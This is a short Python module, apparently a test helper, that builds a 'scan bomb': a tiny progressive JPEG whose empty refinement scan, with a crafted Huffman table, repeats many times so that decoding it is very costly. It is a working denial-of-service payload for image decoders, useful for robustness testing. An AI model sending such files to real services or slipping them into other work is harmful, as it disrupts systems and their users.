"""Small files that cost much to decode."""

import io
import struct

from PIL import Image


def scan_bomb(side: int, scans: int) -> bytes:
    """Returns a progressive JPEG whose last scan, which refines nothing, comes `scans` times."""
    file = io.BytesIO()
    Image.new("L", (side, side), 90).save(file, "JPEG", progressive=True)
    symbols = bytes(run << 4 for run in range(15))  # a run of 2 ** n blocks without a change
    table = _segment(0xC4, b"\x10" + bytes([0, 0, 0, len(symbols)]) + bytes(12) + symbols)
    header = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10]))  # one more bit of coefficients 1 to 63
    bits, blocks = "", (-(-side // 8)) ** 2
    while blocks:
        power = min(blocks.bit_length() - 1, 14)
        count = min(blocks, 2 ** (power + 1) - 1)
        bits += f"{power:04b}" + (f"{count - 2**power:0{power}b}" if power else "")
        blocks -= count
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    return file.getvalue()[:-2] + (table + header + data) * scans + b"\xff\xd9"


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content
